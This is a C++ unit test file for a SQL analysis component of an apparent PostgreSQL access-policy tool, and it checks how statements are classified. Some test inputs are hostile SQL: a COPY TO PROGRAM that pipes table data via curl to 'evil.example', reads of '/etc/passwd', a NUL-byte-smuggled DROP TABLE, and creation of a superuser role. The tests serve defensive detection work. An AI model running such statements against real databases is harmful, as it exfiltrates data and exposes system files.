#include "controlplane/policy/sql_analysis.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <thread>
#include <vector>

namespace pgwarden::policy {
namespace {

using ::testing::ElementsAre;
using ::testing::IsEmpty;
using ::testing::UnorderedElementsAre;

std::vector<std::string> names(const std::vector<RelationRef>& rels) {
  std::vector<std::string> out;
  for (const auto& r : rels) out.push_back(r.schema.empty() ? r.name : r.schema + "." + r.name);
  return out;
}

std::vector<std::string> names(const std::vector<FunctionRef>& fns) {
  std::vector<std::string> out;
  for (const auto& f : fns) out.push_back(f.schema.empty() ? f.name : f.schema + "." + f.name);
  return out;
}

std::vector<std::string> kinds(const std::vector<StatementKind>& ks) {
  std::vector<std::string> out;
  for (auto k : ks) out.emplace_back(statement_kind_name(k));
  return out;
}

StatementAnalysis one(std::string_view sql) {
  SqlAnalysis a = analyse_sql(sql);
  EXPECT_FALSE(a.parse_error) << sql << ": " << a.parse_error->message;
  EXPECT_EQ(a.statements.size(), 1u) << sql;
  return a.statements.empty() ? StatementAnalysis{} : a.statements[0];
}

TEST(SqlAnalysis, KindNamesRoundTrip) {
  for (StatementKind k : all_statement_kinds()) {
    auto back = statement_kind_from_name(statement_kind_name(k));
    ASSERT_TRUE(back.has_value()) << statement_kind_name(k);
    EXPECT_EQ(*back, k);
  }
  EXPECT_FALSE(statement_kind_from_name("drop_everything"));
}

TEST(SqlAnalysis, SubqueryInWhereIsRead) {
  auto s = one("SELECT id FROM crm.orders WHERE customer_id IN (SELECT id FROM crm.customers)");
  EXPECT_EQ(s.kind, StatementKind::kSelect);
  EXPECT_THAT(names(s.relations_read), UnorderedElementsAre("crm.orders", "crm.customers"));
  EXPECT_THAT(s.relations_written, IsEmpty());
}

TEST(SqlAnalysis, JoinsReadBothSides) {
  auto s = one("SELECT * FROM a JOIN b.c ON a.id = c.id LEFT JOIN d USING (id)");
  EXPECT_THAT(names(s.relations_read), UnorderedElementsAre("a", "b.c", "d"));
}

TEST(SqlAnalysis, InsertSelectWritesTargetReadsSource) {
  auto s = one("INSERT INTO archive.orders SELECT * FROM crm.orders WHERE id < 10");
  EXPECT_EQ(s.kind, StatementKind::kInsert);
  EXPECT_THAT(names(s.relations_written), ElementsAre("archive.orders"));
  EXPECT_THAT(names(s.relations_read), ElementsAre("crm.orders"));
}

TEST(SqlAnalysis, UpdateFromWritesTargetOnly) {
  auto s = one("UPDATE crm.orders o SET total = p.total FROM prices p WHERE o.id = p.id");
  EXPECT_EQ(s.kind, StatementKind::kUpdate);
  EXPECT_THAT(names(s.relations_written), ElementsAre("crm.orders"));
  EXPECT_THAT(names(s.relations_read), ElementsAre("prices"));
}

TEST(SqlAnalysis, MergeWritesTargetReadsSource) {
  auto s =
      one("MERGE INTO kv t USING staging s ON t.k = s.k WHEN MATCHED THEN UPDATE SET v = s.v "
          "WHEN NOT MATCHED THEN INSERT VALUES (s.k, s.v)");
  EXPECT_EQ(s.kind, StatementKind::kMerge);
  EXPECT_THAT(names(s.relations_written), ElementsAre("kv"));
  EXPECT_THAT(names(s.relations_read), ElementsAre("staging"));
}

TEST(SqlAnalysis, ViewsAreJustRelations) {
  auto s = one("SELECT * FROM reporting.monthly_view");
  EXPECT_THAT(names(s.relations_read), ElementsAre("reporting.monthly_view"));
}

TEST(SqlAnalysis, QuotedIdentifiersKeepCaseUnquotedFold) {
  auto s = one(R"(SELECT * FROM "Sales"."Big Table", CRM.Customers)");
  EXPECT_THAT(names(s.relations_read), UnorderedElementsAre("Sales.Big Table", "crm.customers"));
}

TEST(SqlAnalysis, CteNamesAreNotRelationsButShadowOnlyUnqualified) {
  auto s = one("WITH customers AS (SELECT 1 AS id) SELECT * FROM customers, crm.customers");
  EXPECT_THAT(names(s.relations_read), ElementsAre("crm.customers"));
}

TEST(SqlAnalysis, NonRecursiveCteBodyReadsTheRealTable) {
  auto s = one("WITH t AS (SELECT * FROM t) SELECT * FROM t");
  EXPECT_THAT(names(s.relations_read), ElementsAre("t"));
}

TEST(SqlAnalysis, RecursiveCteReferencesItself) {
  auto s =
      one("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) "
          "SELECT * FROM r");
  EXPECT_THAT(s.relations_read, IsEmpty());
}

TEST(SqlAnalysis, DataModifyingCteWritesAndIsNested) {
  auto s = one("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d");
  EXPECT_EQ(s.kind, StatementKind::kSelect);
  EXPECT_THAT(names(s.relations_written), ElementsAre("t"));
  EXPECT_THAT(s.relations_read, IsEmpty());
  EXPECT_THAT(kinds(s.nested_kinds), ElementsAre("delete"));
}

TEST(SqlAnalysis, CteCannotShadowDmlTarget) {
  auto s = one("WITH t AS (SELECT 1) DELETE FROM t");
  EXPECT_THAT(names(s.relations_written), ElementsAre("t"));
}

TEST(SqlAnalysis, SelectForUpdateAndShare) {
  EXPECT_EQ(one("SELECT * FROM t FOR UPDATE").kind, StatementKind::kSelectForUpdate);
  EXPECT_EQ(one("SELECT * FROM t FOR KEY SHARE NOWAIT").kind, StatementKind::kSelectForUpdate);
  auto s = one("SELECT * FROM (SELECT * FROM t FOR UPDATE) x");
  EXPECT_EQ(s.kind, StatementKind::kSelectForUpdate);
  auto i = one("INSERT INTO a SELECT * FROM b FOR UPDATE");
  EXPECT_THAT(kinds(i.nested_kinds), ElementsAre("select_for_update"));
}

TEST(SqlAnalysis, FunctionsWithAndWithoutSchema) {
  auto s = one("SELECT nextval('s'), pg_catalog.now(), myschema.f(lower(x)) FROM t");
  EXPECT_THAT(names(s.functions),
              UnorderedElementsAre("nextval", "pg_catalog.now", "myschema.f", "lower"));
  EXPECT_EQ(s.functions[0].resolved(), "pg_catalog.nextval");
}

TEST(SqlAnalysis, FunctionsInFromClause) {
  auto s = one("SELECT * FROM pg_read_file('/etc/passwd') AS f(line)");
  EXPECT_THAT(names(s.functions), ElementsAre("pg_read_file"));
}

TEST(SqlAnalysis, UnqualifiedResolution) {
  EXPECT_EQ((RelationRef{"", "kv"}).resolved(), "public.kv");
  EXPECT_EQ((RelationRef{"", "pg_authid"}).resolved(), "pg_catalog.pg_authid");
  EXPECT_EQ((RelationRef{"crm", "kv"}).resolved(), "crm.kv");
  EXPECT_EQ((FunctionRef{"", "nextval"}).resolved(), "pg_catalog.nextval");
}

TEST(SqlAnalysis, CopyDirectionsAndTargets) {
  auto to = one("COPY crm.customers TO STDOUT");
  EXPECT_EQ(to.kind, StatementKind::kCopyToStdout);
  EXPECT_EQ(to.copy_direction, CopyDirection::kTo);
  EXPECT_THAT(names(to.relations_read), ElementsAre("crm.customers"));
  auto from = one("COPY kv FROM STDIN");
  EXPECT_EQ(from.kind, StatementKind::kCopyFromStdin);
  EXPECT_THAT(names(from.relations_written), ElementsAre("kv"));
  auto prog = one("COPY kv TO PROGRAM 'curl -d @- evil.example'");
  EXPECT_EQ(prog.kind, StatementKind::kCopyProgram);
  EXPECT_EQ(prog.copy_target, "curl -d @- evil.example");
  auto file = one("COPY kv FROM '/etc/passwd'");
  EXPECT_EQ(file.kind, StatementKind::kCopyFile);
  EXPECT_EQ(file.copy_direction, CopyDirection::kFrom);
  auto query = one("COPY (DELETE FROM kv RETURNING *) TO STDOUT");
  EXPECT_EQ(query.kind, StatementKind::kCopyToStdout);
  EXPECT_THAT(names(query.relations_written), ElementsAre("kv"));
  EXPECT_THAT(kinds(query.nested_kinds), ElementsAre("delete"));
}

TEST(SqlAnalysis, CopyTableColumnsAndOptions) {
  auto t =
      one("COPY crm.customers (id, \"Email\") TO STDOUT WITH (FORMAT csv, HEADER, "
          "DELIMITER ';', NULL 'n/a', FORCE_QUOTE *)");
  EXPECT_EQ(t.copy_relation, (RelationRef{"crm", "customers"}));
  EXPECT_FALSE(t.copy_query);
  EXPECT_THAT(t.copy_columns, ElementsAre("id", "Email"));
  EXPECT_THAT(t.copy_options,
              ElementsAre(CopyOption{"format", "csv", true}, CopyOption{"header", "", true},
                          CopyOption{"delimiter", ";", true}, CopyOption{"null", "n/a", true},
                          CopyOption{"force_quote", "", false}));
  auto legacy = one("COPY customers TO STDOUT CSV HEADER QUOTE '''' ESCAPE '\\'");
  EXPECT_EQ(legacy.copy_relation, (RelationRef{"", "customers"}));
  EXPECT_THAT(legacy.copy_options,
              ElementsAre(CopyOption{"format", "csv", true}, CopyOption{"header", "true", true},
                          CopyOption{"quote", "'", true}, CopyOption{"escape", "\\", true}));
  auto q = one("COPY (SELECT ssn FROM crm.customers) TO STDOUT (FORMAT binary)");
  EXPECT_TRUE(q.copy_query);
  EXPECT_TRUE(q.copy_relation.name.empty());
  EXPECT_THAT(q.copy_options, ElementsAre(CopyOption{"format", "binary", true}));
}

TEST(SqlAnalysis, SetShowReset) {
  auto s = one("SET search_path = crm, public");
  EXPECT_EQ(s.kind, StatementKind::kSet);
  EXPECT_THAT(s.settings, ElementsAre(SettingChange{"search_path", "crm, public"}));
  auto ro = one("SET default_transaction_read_only = off");
  EXPECT_THAT(ro.settings, ElementsAre(SettingChange{"default_transaction_read_only", "off"}));
  auto tx = one("SET TRANSACTION READ WRITE");
  EXPECT_THAT(tx.settings, ElementsAre(SettingChange{"transaction_read_only", "off"}));
  EXPECT_THAT(tx.transaction_modes, ElementsAre("read write"));
  auto sess = one("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE");
  EXPECT_THAT(sess.settings, ElementsAre(SettingChange{"default_transaction_read_only", "off"}));
  auto reset = one("RESET default_transaction_read_only");
  EXPECT_EQ(reset.kind, StatementKind::kReset);
  EXPECT_THAT(reset.settings, ElementsAre(SettingChange{"default_transaction_read_only", ""}));
  EXPECT_THAT(one("RESET ALL").settings, ElementsAre(SettingChange{"*", ""}));
  auto show = one("SHOW search_path");
  EXPECT_EQ(show.kind, StatementKind::kShow);
  EXPECT_EQ(show.detail, "search_path");
  auto sc = one("SELECT set_config('default_transaction_read_only', 'off', false)");
  EXPECT_EQ(sc.kind, StatementKind::kSelect);
  EXPECT_THAT(sc.settings, ElementsAre(SettingChange{"default_transaction_read_only", "off"}));
  auto dyn = one("SELECT set_config(name, 'x', false) FROM params");
  EXPECT_THAT(dyn.settings, ElementsAre(SettingChange{"*", "x"}));
}

TEST(SqlAnalysis, TransactionModes) {
  auto b = one("BEGIN ISOLATION LEVEL SERIALIZABLE, READ WRITE");
  EXPECT_EQ(b.kind, StatementKind::kTransaction);
  EXPECT_EQ(b.transaction_action, "begin");
  EXPECT_THAT(b.transaction_modes, ElementsAre("isolation level serializable", "read write"));
  auto st = one("START TRANSACTION READ ONLY");
  EXPECT_EQ(st.transaction_action, "start");
  EXPECT_THAT(st.settings, ElementsAre(SettingChange{"transaction_read_only", "on"}));
  EXPECT_EQ(one("SAVEPOINT a").transaction_action, "savepoint");
  EXPECT_EQ(one("ROLLBACK TO SAVEPOINT a").transaction_action, "rollback_to");
  EXPECT_EQ(one("COMMIT").transaction_action, "commit");
}

TEST(SqlAnalysis, ExplainAnalyzeOfDmlExecutesIt) {
  auto e = one("EXPLAIN ANALYZE DELETE FROM kv");
  EXPECT_EQ(e.kind, StatementKind::kExplainAnalyze);
  EXPECT_THAT(names(e.relations_written), ElementsAre("kv"));
  EXPECT_THAT(kinds(e.nested_kinds), ElementsAre("delete"));
  ASSERT_TRUE(e.inner);
  EXPECT_EQ(e.inner->kind, StatementKind::kDelete);
  auto opt = one("EXPLAIN (ANALYZE true, BUFFERS) UPDATE kv SET v = 1");
  EXPECT_EQ(opt.kind, StatementKind::kExplainAnalyze);
  auto plain = one("EXPLAIN DELETE FROM kv");
  EXPECT_EQ(plain.kind, StatementKind::kExplain);
  EXPECT_THAT(plain.relations_written, IsEmpty());
  EXPECT_THAT(names(plain.relations_read), ElementsAre("kv"));
  EXPECT_THAT(plain.nested_kinds, IsEmpty());
  EXPECT_EQ(one("EXPLAIN (ANALYZE off) DELETE FROM kv").kind, StatementKind::kExplain);
}

TEST(SqlAnalysis, PrepareKeepsInnerStatement) {
  auto p = one("PREPARE p(int) AS DELETE FROM kv WHERE k = $1");
  EXPECT_EQ(p.kind, StatementKind::kPrepare);
  EXPECT_EQ(p.prepared_name, "p");
  ASSERT_TRUE(p.inner);
  EXPECT_EQ(p.inner->kind, StatementKind::kDelete);
  EXPECT_THAT(names(p.inner->relations_written), ElementsAre("kv"));
  auto e = one("EXECUTE p(1)");
  EXPECT_EQ(e.kind, StatementKind::kExecute);
  EXPECT_EQ(e.prepared_name, "p");
  auto d = one("DEALLOCATE ALL");
  EXPECT_EQ(d.kind, StatementKind::kDeallocate);
  EXPECT_EQ(d.prepared_name, "");
}

TEST(SqlAnalysis, UtilityKinds) {
  EXPECT_EQ(one("DO $$ BEGIN PERFORM 1; END $$").kind, StatementKind::kDo);
  auto call = one("CALL maint.rebuild(1)");
  EXPECT_EQ(call.kind, StatementKind::kCall);
  EXPECT_THAT(names(call.functions), ElementsAre("maint.rebuild"));
  EXPECT_EQ(one("CREATE TABLE x (id int)").kind, StatementKind::kDdlCreate);
  EXPECT_EQ(one("CREATE INDEX ON kv (k)").kind, StatementKind::kDdlCreate);
  EXPECT_EQ(one("CREATE VIEW v AS SELECT * FROM kv").kind, StatementKind::kDdlCreate);
  EXPECT_EQ(one("ALTER TABLE kv ADD COLUMN z int").kind, StatementKind::kDdlAlter);
  EXPECT_EQ(one("ALTER TABLE kv RENAME TO kv2").kind, StatementKind::kDdlAlter);
  EXPECT_EQ(one("DROP TABLE kv").kind, StatementKind::kDdlDrop);
  EXPECT_EQ(one("DROP FUNCTION f()").kind, StatementKind::kDdlDrop);
  EXPECT_EQ(one("TRUNCATE kv").kind, StatementKind::kTruncate);
  EXPECT_EQ(one("GRANT SELECT ON kv TO app").kind, StatementKind::kGrant);
  EXPECT_EQ(one("REVOKE ALL ON kv FROM app").kind, StatementKind::kGrant);
  EXPECT_EQ(one("CREATE ROLE eve SUPERUSER").kind, StatementKind::kGrant);
  EXPECT_EQ(one("ALTER ROLE eve PASSWORD 'x'").kind, StatementKind::kGrant);
  EXPECT_EQ(one("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'").kind,
            StatementKind::kCreateFunction);
  EXPECT_EQ(one("LISTEN ch").kind, StatementKind::kListen);
  EXPECT_EQ(one("UNLISTEN *").kind, StatementKind::kListen);
  EXPECT_EQ(one("NOTIFY ch, 'x'").kind, StatementKind::kNotify);
  EXPECT_EQ(one("VACUUM kv").kind, StatementKind::kVacuum);
  EXPECT_EQ(one("ANALYZE kv").kind, StatementKind::kAnalyze);
  EXPECT_EQ(one("LOCK TABLE kv IN ACCESS EXCLUSIVE MODE").kind, StatementKind::kLock);
  EXPECT_EQ(one("DISCARD ALL").detail, "all");
  EXPECT_EQ(one("CHECKPOINT").kind, StatementKind::kOther);
  EXPECT_EQ(one("ALTER SYSTEM SET fsync = off").kind, StatementKind::kOther);
  EXPECT_EQ(one("SELECT * INTO newt FROM kv").kind, StatementKind::kDdlCreate);
}

TEST(SqlAnalysis, DdlRelations) {
  auto v = one("CREATE VIEW rpt.v AS SELECT * FROM crm.customers");
  EXPECT_THAT(names(v.relations_written), ElementsAre("rpt.v"));
  EXPECT_THAT(names(v.relations_read), ElementsAre("crm.customers"));
  auto d = one("DROP TABLE a.b, c");
  EXPECT_THAT(names(d.relations_written), ElementsAre("a.b", "c"));
  auto t = one("TRUNCATE a, b.c");
  EXPECT_THAT(names(t.relations_written), ElementsAre("a", "b.c"));
  auto into = one("SELECT * INTO newt FROM kv");
  EXPECT_THAT(names(into.relations_written), ElementsAre("newt"));
  EXPECT_THAT(names(into.relations_read), ElementsAre("kv"));
}

TEST(SqlAnalysis, ColumnsResolveThroughAliases) {
  auto s =
      one("SELECT c.ssn, upper(c.email), o.total FROM crm.customers c JOIN crm.orders o "
          "ON o.customer_id = c.id");
  const RelationRef cust{"crm", "customers"}, ord{"crm", "orders"};
  EXPECT_THAT(s.columns, UnorderedElementsAre(
                             ColumnUse{cust, "ssn", false}, ColumnUse{cust, "email", true},
                             ColumnUse{ord, "total", false}, ColumnUse{ord, "customer_id", true},
                             ColumnUse{cust, "id", true}));
}

TEST(SqlAnalysis, ColumnsOfSingleRelationAndExpressions) {
  auto s = one("SELECT ssn, substr(card_number, 1, 4) FROM crm.customers WHERE iban LIKE 'DE%'");
  const RelationRef cust{"crm", "customers"};
  EXPECT_THAT(s.columns, UnorderedElementsAre(ColumnUse{cust, "ssn", false},
                                              ColumnUse{cust, "card_number", true},
                                              ColumnUse{cust, "iban", true}));
}

TEST(SqlAnalysis, AmbiguousAndDerivedColumnsHaveNoRelation) {
  auto s = one("SELECT x.ssn FROM (SELECT ssn FROM crm.customers) x");
  EXPECT_THAT(s.columns, UnorderedElementsAre(ColumnUse{{}, "ssn", false},
                                              ColumnUse{{"crm", "customers"}, "ssn", false}));
  auto j = one("SELECT name FROM a, b");
  EXPECT_THAT(j.columns, ElementsAre(ColumnUse{{}, "name", false}));
  auto star = one("SELECT * FROM crm.customers");
  EXPECT_THAT(star.columns, ElementsAre(ColumnUse{{"crm", "customers"}, "*", false}));
}

TEST(SqlAnalysis, MultipleStatementsKeepTheirText) {
  SqlAnalysis a = analyse_sql("SELECT 1; DELETE FROM kv ;\n INSERT INTO kv VALUES (1)");
  ASSERT_FALSE(a.parse_error);
  ASSERT_EQ(a.statements.size(), 3u);
  EXPECT_EQ(a.statements[0].text, "SELECT 1");
  EXPECT_EQ(a.statements[1].text, "DELETE FROM kv");
  EXPECT_EQ(a.statements[2].text, "INSERT INTO kv VALUES (1)");
  EXPECT_EQ(a.statements[1].kind, StatementKind::kDelete);
}

TEST(SqlAnalysis, ParseErrorCarriesMessageAndPosition) {
  SqlAnalysis a = analyse_sql("SELECT * FORM kv");
  ASSERT_TRUE(a.parse_error);
  EXPECT_EQ(a.parse_error->message, "syntax error at or near \"FORM\"");
  EXPECT_EQ(a.parse_error->cursor_position, 10);
  EXPECT_THAT(a.statements, IsEmpty());
}

TEST(SqlAnalysis, NulByteAndOversizedInputAreErrors) {
  EXPECT_TRUE(analyse_sql(std::string_view("SELECT 1\0; DROP TABLE kv", 24)).parse_error);
  EXPECT_TRUE(analyse_sql(std::string(kMaxSqlBytes + 1, ' ')).parse_error);
}

TEST(SqlAnalysis, EmptyAndCommentOnlyStringsHaveNoStatements) {
  EXPECT_THAT(analyse_sql("").statements, IsEmpty());
  EXPECT_THAT(analyse_sql("  -- nothing\n /* at all */ ;").statements, IsEmpty());
}

TEST(SqlAnalysis, DeeplyNestedExpressionIsRefusedNotCrashed) {
  std::string sql = "SELECT 1";
  for (int i = 0; i < 3000; ++i) sql += " + 1";
  SqlAnalysis a = analyse_sql(sql);
  EXPECT_TRUE(a.parse_error);
}

TEST(SqlAnalysis, ConcurrentAnalysisFromManyThreads) {
  std::vector<std::thread> threads;
  std::vector<int> ok(8, 0);
  for (int t = 0; t < 8; ++t) {
    threads.emplace_back([t, &ok] {
      for (int i = 0; i < 300; ++i) {
        SqlAnalysis a =
            analyse_sql("WITH d AS (DELETE FROM t" + std::to_string(t) +
                        " RETURNING *) SELECT * FROM d, crm.x WHERE y = " + std::to_string(i));
        if (!a.parse_error && a.statements.size() == 1 &&
            a.statements[0].relations_written.size() == 1 &&
            a.statements[0].relations_written[0].name == "t" + std::to_string(t)) {
          ++ok[t];
        }
      }
    });
  }
  for (auto& th : threads) th.join();
  for (int t = 0; t < 8; ++t) EXPECT_EQ(ok[t], 300) << "thread " << t;
}

}  // namespace
}  // namespace pgwarden::policy
